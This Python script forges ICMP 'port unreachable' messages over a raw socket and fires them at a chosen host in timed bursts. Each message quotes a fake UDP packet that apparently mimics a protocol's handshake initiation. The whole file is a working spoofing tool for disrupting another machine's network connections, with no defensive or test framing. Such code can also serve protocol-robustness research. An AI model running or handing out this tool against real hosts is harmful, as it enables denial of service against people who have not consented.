#!/usr/bin/python3
"""Forges ICMP messages that say that a port is closed.

usage: forge_icmp.py TO PORT QUOTED_TO QUOTED_PORT COUNT PER_SECOND

They go to TO, and quote the beginning of an initiation that it sent from PORT to QUOTED_TO:QUOTED_PORT, with an index
that nobody knows.
"""

import os
import socket
import struct
import sys
import time

BURST = 100
UNREACHABLE, CLOSED_PORT = 3, 3


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def message(to, port, quoted_to, quoted_port):
    initiation = b"\1\0\0\0" + os.urandom(144)
    udp = struct.pack("!HHHH", port, quoted_port, 8 + len(initiation), 0) + initiation
    quoted = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(to), socket.inet_aton(quoted_to)) + udp
    rest = struct.pack("!I", 0) + quoted
    head = struct.pack("!BBH", UNREACHABLE, CLOSED_PORT, 0)
    return struct.pack("!BBH", UNREACHABLE, CLOSED_PORT, checksum(head + rest)) + rest


def main(to, port, quoted_to, quoted_port, count, per_second):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    messages = [message(to, port, quoted_to, quoted_port) for _ in range(BURST)]
    start = time.monotonic()
    for sent in range(0, count, BURST):
        for one in messages:
            raw.sendto(one, (to, 0))
        time.sleep(max(0.0, start + (sent + BURST) / per_second - time.monotonic()))
    print(f"sent {count} in {time.monotonic() - start:.1f} s", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], *(int(number) for number in sys.argv[4:]))
